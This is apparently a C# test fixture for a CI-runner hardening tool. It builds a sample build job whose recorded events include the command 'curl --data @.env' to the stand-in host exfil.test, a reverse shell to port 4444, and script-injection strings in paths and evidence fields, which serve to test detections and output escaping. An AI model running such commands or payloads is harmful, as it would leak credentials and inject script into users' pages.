using HardenRunner.Events;
using HardenRunner.Policy.Model;
using HardenRunner.Store;

namespace HardenRunner.Tests.Reporting.Views;

/// <summary>
/// A realistic job recorded into a real store (through <see cref="SqliteEventStore"/>): checkout, npm ci, a build step
/// that exfiltrates, with DNS, HTTPS, layer-4 flows, processes, file changes and detections — and hostile strings
/// (markup and script in a path, a host name, a command line, an evidence value) that every view must render inert.
/// Shared by the renderer unit tests and the browser tests.
/// </summary>
public static class ViewSampleRun
{
    public static readonly DateTimeOffset T0 = new(2026, 11, 20, 9, 30, 0, TimeSpan.Zero);

    /// <summary>Markup that would run if a view failed to escape it: it sets <c>window.__pwned</c>.</summary>
    public const string HostilePath = "/home/runner/work/web/web/src/<script>window.__pwned=1</script>.js";

    public const string HostileCmdline = "sh -c 'echo \"<img src=x onerror=window.__pwned=2>\" | base64'";

    public const string HostileHost = "evil-<b>x</b>|inject.test";

    public static readonly StepInfo Checkout = new("actions_checkout", "actions/checkout");
    public static readonly StepInfo Install = new("__run", null);
    public static readonly StepInfo Build = new("__run_2", null);

    private static readonly AncestorInfo Worker = new(1000, "/home/runner/actions-runner/bin/Runner.Worker");

    public static ProcessInfo Proc(int pid, string exe, string cmd, params AncestorInfo[] ancestors) => new(pid, exe, cmd, [.. ancestors, Worker]);

    /// <summary>Records the sample run as <paramref name="runId"/>; returns the stored run.</summary>
    public static async Task<RunInfo> RecordAsync(IEventStore store, string runId = "run-sample", EgressMode mode = EgressMode.Block, DateTimeOffset? started = null, string repository = "acme/web", string workflow = "ci", string job = "build", string? hostName = null)
    {
        ArgumentNullException.ThrowIfNull(store);
        var t0 = started ?? T0;
        await store.BeginRunAsync(new RunInfo(runId, t0, mode) { Repository = repository, Workflow = workflow, Job = job, GitHubRunId = "7412", HostName = hostName });
        await store.AppendAsync(runId, Events(t0, mode));
        await store.EndRunAsync(runId, t0.AddMinutes(4), 0);
        return (await store.GetRunAsync(runId))!;
    }

    public static IReadOnlyList<ApplianceEvent> Events(DateTimeOffset t0, EgressMode mode)
    {
        var blocked = mode == EgressMode.Block ? NetworkEvent.Blocked : NetworkEvent.Passed;
        var node = Proc(2100, "/usr/local/bin/node", "node /usr/local/bin/npm ci", new AncestorInfo(2050, "/usr/bin/bash"));
        var git = Proc(1500, "/usr/bin/git", "git -c http.extraheader=\"AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2FhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh\" fetch origin", new AncestorInfo(1400, "/home/runner/actions-runner/externals/node20/bin/node"));
        var remote = Proc(1510, "/usr/lib/git-core/git-remote-https", "git-remote-https origin https://github.com/acme/web", new AncestorInfo(1500, "/usr/bin/git"), new AncestorInfo(1400, "/home/runner/actions-runner/externals/node20/bin/node"));
        var curl = Proc(3100, "/usr/bin/curl", "curl -sS -X POST --data @.env https://exfil.test/upload", new AncestorInfo(3000, "/usr/bin/bash"));
        var sh = Proc(3200, "/usr/bin/sh", HostileCmdline, new AncestorInfo(3000, "/usr/bin/bash"));
        var ms = 0;
        DateTimeOffset T() => t0.AddMilliseconds(ms += 250);
        NetworkEvent Dns(string host, Decision d, string action, StepInfo step) =>
            new(T(), "dns", host, null, 53, d, action, d == Decision.Allow ? $"allowed-endpoints: {host}" : "not allowed", QueryType: "A") { Step = step };

        return
        [
            new ProcessEvent(T(), 1400, 1000, "/home/runner/actions-runner/externals/node20/bin/node", "node /home/runner/work/_actions/actions/checkout/v4/dist/index.js", t0, 1001, 1001, Checkout),
            new ProcessEvent(T(), 1500, 1400, "/usr/bin/git", git.Cmdline, t0, 1001, 1001, Checkout),
            new ProcessEvent(T(), 1510, 1500, "/usr/lib/git-core/git-remote-https", remote.Cmdline, t0, 1001, 1001, Checkout),
            Dns("github.com", Decision.Allow, NetworkEvent.Passed, Checkout),
            new NetworkEvent(T(), "https", "github.com", "10.99.0.10", 443, Decision.Allow, NetworkEvent.Passed, "preset github-actions: github.com:443", "GET", "/acme/web/info/refs?service=git-upload-pack") { Process = remote, Step = Checkout },
            new NetworkEvent(T(), "https", "github.com", "10.99.0.10", 443, Decision.Allow, NetworkEvent.Passed, "preset github-actions: github.com:443", "POST", "/acme/web/git-upload-pack") { Process = remote, Step = Checkout },
            new FileEvent(T(), "/home/runner/work/web/web/package.json", FileEvent.Create, true, git, Checkout),

            new ProcessEvent(T(), 2050, 1000, "/usr/bin/bash", "bash -e /home/runner/work/_temp/1.sh", t0, 1001, 1001, Install),
            new ProcessEvent(T(), 2100, 2050, "/usr/local/bin/node", node.Cmdline, t0, 1001, 1001, Install),
            Dns("registry.npmjs.org", Decision.Allow, NetworkEvent.Passed, Install),
            new NetworkEvent(T(), "https", "registry.npmjs.org", "10.99.0.11", 443, Decision.Allow, NetworkEvent.Passed, "allowed-endpoints: registry.npmjs.org:443", "GET", "/left-pad") { Process = node, Step = Install },
            new NetworkEvent(T(), "https", "registry.npmjs.org", "10.99.0.11", 443, Decision.Allow, NetworkEvent.Passed, "allowed-endpoints: registry.npmjs.org:443", "GET", "/left-pad/-/left-pad-1.3.0.tgz") { Process = node, Step = Install },
            new NetworkEvent(T(), "https", HostileHost, "10.99.0.66", 443, Decision.Deny, blocked, "not allowed") { Process = node, Step = Install },
            new FileEvent(T(), "/home/runner/work/web/web/node_modules/left-pad/index.js", FileEvent.Create, false, node, Install),

            new ProcessEvent(T(), 3000, 1000, "/usr/bin/bash", "bash -e /home/runner/work/_temp/2.sh", t0, 1001, 1001, Build),
            new ProcessEvent(T(), 3100, 3000, "/usr/bin/curl", curl.Cmdline, t0, 1001, 1001, Build),
            new ProcessEvent(T(), 3200, 3000, "/usr/bin/sh", HostileCmdline, t0, 1001, 1001, Build),
            Dns("exfil.test", Decision.Deny, blocked, Build),
            new NetworkEvent(T(), "https", "exfil.test", "10.99.0.66", 443, Decision.Deny, blocked, "not allowed", "POST", "/upload") { Process = curl, Step = Build },
            new NetworkEvent(T(), "tcp", null, "203.0.113.7", 4444, Decision.Deny, blocked, "not allowed: no endpoint for 203.0.113.7:4444") { Process = sh, Step = Build },
            new FileEvent(T(), HostilePath, FileEvent.Modify, true, sh, Build),
            new FileEvent(T(), "/home/runner/work/web/web/src/index.js", FileEvent.Modify, true, sh, Build),
            new DetectionEvent(T(), "reverse-shell", "critical", "sh has its standard input and output on a TCP socket to 203.0.113.7:4444", new Dictionary<string, string> { ["remote"] = "203.0.113.7:4444", ["fds"] = "0,1,2" }) { Process = sh, Step = Build },
            new DetectionEvent(T(), "source-overwritten", "high", "A tracked source file was overwritten during the build: src/index.js", new Dictionary<string, string> { ["path"] = "/home/runner/work/web/web/src/index.js" }) { Process = sh, Step = Build },
            new DetectionEvent(T(), "egress-blocked", "medium", "curl tried to reach exfil.test:443, which the policy does not allow", new Dictionary<string, string> { ["host"] = "exfil.test", ["note"] = "<script>window.__pwned=3</script>" }) { Process = curl, Step = Build },
            new DetectionEvent(T(), "sudo-used", "low", "sudo was used", new Dictionary<string, string> { ["cmdline"] = "sudo apt-get install -y jq" }) { Step = Install },
        ];
    }
}
